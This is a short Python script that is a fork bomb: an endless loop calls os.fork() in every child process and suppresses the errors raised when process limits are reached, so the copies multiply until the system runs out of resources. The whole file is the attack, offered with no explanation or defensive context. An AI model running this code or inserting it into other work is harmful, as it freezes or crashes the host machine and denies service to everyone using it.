"""Forks for ever; every child does the same."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
